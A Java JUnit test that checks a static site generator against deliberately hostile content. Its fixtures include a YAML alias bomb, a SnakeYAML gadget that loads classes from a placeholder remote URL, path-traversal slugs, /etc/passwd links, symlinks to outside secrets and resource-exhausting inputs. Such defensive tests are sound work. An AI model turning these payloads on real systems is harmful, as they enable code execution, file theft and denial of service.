package io.fanwen;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.fanwen.cli.Shell;
import io.fanwen.cli.Shell.Said;
import io.fanwen.cli.SmallSite;
import io.fanwen.text.ReadJson;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** One site with everything at once that broken or malicious content can hold, beside a few sound articles. */
class HostileSiteTest {
    private static final String SECRET = "what stands outside of the site";
    private static final String BAD = "content/坏/";

    @TempDir
    Path folder;
    private Path site;

    /** What is expected to be said of a file, by its path: a regular expression behind the path. */
    private final SortedMap<String, String> expected = new TreeMap<>();

    @BeforeEach
    void writeTheSite() throws IOException, InterruptedException {
        site = folder.resolve("site of mine");
        SmallSite.in(site).article("岗位/a.md", "甲", "date: 2026-01-01", "topics: [岗位]").article("岗位/客服/b.md", "乙", "date: 2026-01-02")
                .article("坏/good.md", "坏栏目里的好文", "date: 2026-01-03", "topics: [岗位]").with("content/about.md", "# 关于\n\n关于本站。\n");
        writeFrontMatter();
        writeEncodings();
        writeNames();
        writeMarkdown();
        writeOddFiles();
    }

    @Test
    void namesEveryBadFileAndPublishesNothing() {
        Said said = build();

        assertEquals(1, said.exit());
        assertEquals("", said.out());
        assertFalse(Files.exists(site.resolve("site")));
        assertEverythingNamed(said);
    }

    @Test
    void keepsThePublishedSite() throws IOException {
        Path sound = folder.resolve("sound");
        SmallSite.in(sound).article("岗位/a.md", "甲", "date: 2026-01-01");
        String out = folder.resolve("out").toString();
        Shell.in(sound).run("build", "--now", "2026-11-23", "--out", out);
        SortedMap<String, byte[]> before = Tree.read(folder.resolve("out"));

        Said said = build("--out", out);

        assertEquals(1, said.exit());
        assertTrue(before.containsKey("岗位/a.html"));
        assertEquals("", String.join("\n", Tree.differences(before, Tree.read(folder.resolve("out")))));
    }

    @Test
    void publishesTheRestAsIfTheBadFilesWereNotThere() throws IOException {
        Said said = build("--keep-going", "--json");
        SortedMap<String, byte[]> kept = Tree.read(site.resolve("site"));

        assertEquals(1, said.exit());
        List<?> leftOut = (List<?>) ReadJson.object(said.out().strip()).get("leftOut");
        assertTrue(kept.containsKey("岗位/a.html") && kept.containsKey("坏/good.html"), kept.keySet().toString());
        for (Object path : leftOut) {
            Files.delete(site.resolve(path.toString()));
        }
        Said clean = build("--out", folder.resolve("clean").toString());
        assertEquals(0, clean.exit(), clean.err());
        assertEquals("", String.join("\n", Tree.differences(Tree.read(folder.resolve("clean")), kept)));
    }

    @Test
    void leavesOutExactlyTheBadFiles() {
        List<?> leftOut = (List<?>) ReadJson.object(build("--keep-going", "--json").out().strip()).get("leftOut");

        TreeSet<String> bad = expected.keySet().stream().filter(path -> expected.get(path).contains("error"))
                .collect(Collectors.toCollection(TreeSet::new));
        assertEquals(String.join("\n", bad), leftOut.stream().map(Object::toString).collect(Collectors.joining("\n")));
    }

    @Test
    void readsNothingThroughLinks() {
        Said said = build("--keep-going");

        SortedMap<String, byte[]> published = Tree.read(site.resolve("site"));
        assertFalse(published.isEmpty(), said.err());
        published.forEach((path, bytes) -> {
            String text = Tree.text(bytes);
            assertFalse(text.contains(SECRET), path);
        });
        assertFalse(said.err().contains(SECRET), said.err());
    }

    @Test
    void writesNothingOutsideOfThePublishedFolder() {
        SortedMap<String, byte[]> before = Tree.read(folder.resolve("outside"));
        build("--keep-going");

        assertEquals("", String.join("\n", Tree.differences(before, Tree.read(folder.resolve("outside")))));
        try (var files = Files.list(folder)) {
            assertEquals(List.of("outside", "site of mine"), files.map(file -> file.getFileName().toString()).sorted().toList());
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void tellsMachinesOfEverythingLeftOut() {
        // People see the first fifty warnings.
        List<?> diagnostics = (List<?>) ReadJson.object(build("--json").out().strip()).get("diagnostics");

        String told = diagnostics.stream().map(Map.class::cast)
                .map(diagnostic -> diagnostic.get("path") + ": " + diagnostic.get("severity") + ": " + diagnostic.get("message"))
                .collect(Collectors.joining("\n"));
        expected.forEach((path, words) -> assertTrue(!words.contains("warning") || told.contains(path + words), path));
    }

    private void assertEverythingNamed(Said said) {
        expected.forEach((path, words) -> assertTrue(words.contains("warning") ||
                Pattern.compile("(?m)^" + Pattern.quote(path) + words).matcher(said.err()).find(),
                () -> path + " " + words + " in\n" + said.err().lines().filter(line -> line.startsWith(path)).toList()));
        for (String trace : List.of("\tat ", "Exception", "Error:", "io.fanwen", "org.", "java.")) {
            assertFalse(said.err().lines().anyMatch(line -> line.contains(trace) && !line.contains("javax.script")), trace);
        }
        assertFalse(said.err().lines().anyMatch(line -> line.length() > 2_000), "a line too long for anybody");
    }

    private void writeFrontMatter() throws IOException {
        bad("laughs", "---\na: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\ntitle: *c\n---\n字。\n", ":\\d+:\\d+: error: ");
        bad("deep", "---\ntitle: 深\nextra: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n---\n字。\n", ":3:\\d+: error: ");
        bad("deep-block", "---\ntitle: 深\nextra:\n" + nested(200) + "---\n字。\n", ":\\d+:\\d+: error: ");
        bad("big", "---\ntitle: 大\nsummary: " + "长".repeat(100_000) + "\n---\n字。\n", ":\\d+:\\d+: error: ");
        bad("keys", "---\n" + lines(5_000) + "title: 多\n---\n字。\n", ":\\d+:\\d+: error: ");
        bad("tag", "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [http://x.example/]]]]\n---\n字。\n",
                ":2:8: error: ");
        bad("twice", "---\ntitle: 一\ntitle: 二\n---\n字。\n", ":3:1: error: ");
        bad("list-title", "---\ntitle: [一, 二]\n---\n字。\n", ":2:8: error: ");
        bad("no-day", "---\ntitle: 日\ndate: 2026-02-30\n---\n字。\n", ":3:7: error: ");
        bad("unclosed", "---\ntitle: 没有关\n\n字。\n", ":1:1: error: ");
        bad("not-fields", "---\n- 一\n- 二\n---\n字。\n", ":2:1: error: ");
        bad("tab", "---\ntitle: 制表\nextra:\n\ta: 1\n---\n字。\n", ":4:1: error: ");
        bad("control", "---\ntitle: 响\u0007铃\n---\n字。\n", ":2:\\d+: error: ");
        bad("no-title", "字。\n", ": error: ");
        bad("empty", "", ": error: ");
        bad("category", "---\ntitle: 外\ncategory: ../../outside\n---\n字。\n", ":3:\\d+: error: ");
    }

    private void writeEncodings() throws IOException {
        bad("nul", "---\ntitle: 零\n---\n字\0。\n", ":4:2: error: ");
        bytes("utf16le", "---\ntitle: 双\n---\n字。\n".getBytes(StandardCharsets.UTF_16LE), ":\\d+:\\d+: error: .*UTF-16");
        bytes("utf16", "---\ntitle: 双\n---\n字。\n".getBytes(StandardCharsets.UTF_16), ":\\d+:\\d+: error: .*UTF-16");
        bytes("gb18030", "---\ntitle: 国标\n---\n\n国标的字，不是别的。\n".getBytes(Charset.forName("GB18030")), ":2:8: error: .*GB18030");
        byte[] binary = new byte[3_000];
        for (int i = 0; i < binary.length; i++) {
            binary[i] = (byte) (i * 7 + 128);
        }
        bytes("binary", binary, ":\\d+:\\d+: error: ");
    }

    private void writeNames() throws IOException {
        for (String slug : List.of("../../escape", "/etc/cron.d/x", "a/b", "a\\b", "..", ".", "%2e%2e%2fx", ".hidden", "con", "nul.html", "COM1",
                "尾.", "冒号:", "a|b", "a?b", "a*b", "\"a<b\"", "长".repeat(90))) {
            String name = "slug" + expected.size();
            bad(name, "---\ntitle: 名\ndate: 2026-01-01\nslug: " + slug + "\n---\n字。\n", ":4:\\d+: error: ");
        }
        bad("alias", "---\ntitle: 旧\ndate: 2026-01-01\naliases: [/../../x.html]\n---\n字。\n", ":4:\\d+: error: ");
        bad("alias-of-page", "---\ntitle: 旧\ndate: 2026-01-01\naliases: [/岗位/a.html]\n---\n字。\n", ":4:\\d+: error: ");
        bad("alias-of-home", "---\ntitle: 旧\ndate: 2026-01-01\naliases: [/index.html]\n---\n字。\n", ":4:\\d+: error: ");
        bad("page-1", "---\ntitle: 第一页\ndate: 2026-01-01\n---\n字。\n", "(:\\d+:\\d+)?: error: ");
        bad("hot", "---\ntitle: 热\ndate: 2026-01-01\n---\n字。\n", "(:\\d+:\\d+)?: error: ");
    }

    private void writeMarkdown() throws IOException {
        bad("script-link", "---\ntitle: 断\ndate: 2026-01-01\n---\n[断](nowhere.md)\n![断](/etc/passwd)\n[外](../../../../etc/passwd)\n", ":5:1: error: ");
        bad("images", front() + "![[]()".repeat(32_000) + "\n", ":\\d+:\\d+: error: ");
        // Odd, but cheap to read: no reason to refuse them.
        SmallSite.in(site).with(BAD + "brackets.md", front() + "[".repeat(60_000) + "\n")
                .with(BAD + "stars.md", front() + "*a ".repeat(50_000) + "_a*_ ".repeat(50_000) + "\n")
                .with(BAD + "quotes.md", front() + ">".repeat(20_000) + "a\n");
        bad("long-line", front() + "长".repeat(2_000_000) + "\n", "(:\\d+:\\d+)?: error: ");
    }

    private void writeOddFiles() throws IOException, InterruptedException {
        SmallSite.in(folder.resolve("outside")).with("secret.md", "---\ntitle: x\n---\n" + SECRET + "\n");
        Path bad = site.resolve("content/坏");
        link(bad.resolve("dangling.md"), folder.resolve("nothing"));
        link(bad.resolve("secret.md"), folder.resolve("outside/secret.md"));
        link(bad.resolve("folder"), folder.resolve("outside"));
        link(bad.resolve("round"), bad);
        Files.createDirectories(site.resolve("static"));
        Files.createSymbolicLink(site.resolve("static/secret.txt"), folder.resolve("outside/secret.md"));
        expected.put("static/secret.txt", ": warning: ");
        link(bad.resolve("picture.png"), folder.resolve("outside/secret.md"));
        bad("linked-picture", front() + "![图](picture.png)\n", ":\\d+:1: error: ");
        Path pipe = bad.resolve("pipe.md");
        if (new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor() == 0) {
            expected.put(BAD + "pipe.md", ": warning: ");
        }
    }

    private void link(Path link, Path target) throws IOException {
        Files.createSymbolicLink(link, target);
        expected.put(BAD + link.getFileName(), ": warning: ");
    }

    private void bad(String name, String text, String words) throws IOException {
        bytes(name, text.getBytes(StandardCharsets.UTF_8), words);
    }

    private void bytes(String name, byte[] bytes, String words) throws IOException {
        Files.createDirectories(site.resolve(BAD));
        Files.write(site.resolve(BAD + name + ".md"), bytes);
        expected.put(BAD + name + ".md", words);
    }

    private Said build(String... options) {
        String[] words = Arrays.copyOf(new String[] {"build", "--now", "2026-11-23"}, options.length + 3);
        System.arraycopy(options, 0, words, 3, options.length);
        return Shell.in(site).run(words);
    }

    private static String front() {
        return "---\ntitle: 题\ndate: 2026-01-01\n---\n\n";
    }

    private static String nested(int levels) {
        StringBuilder lines = new StringBuilder();
        for (int i = 1; i <= levels; i++) {
            lines.append(" ".repeat(i)).append("a:\n");
        }
        return lines.toString();
    }

    private static String lines(int count) {
        StringBuilder lines = new StringBuilder();
        for (int i = 0; i < count; i++) {
            lines.append("key").append(i).append(": 1\n");
        }
        return lines.toString();
    }
}
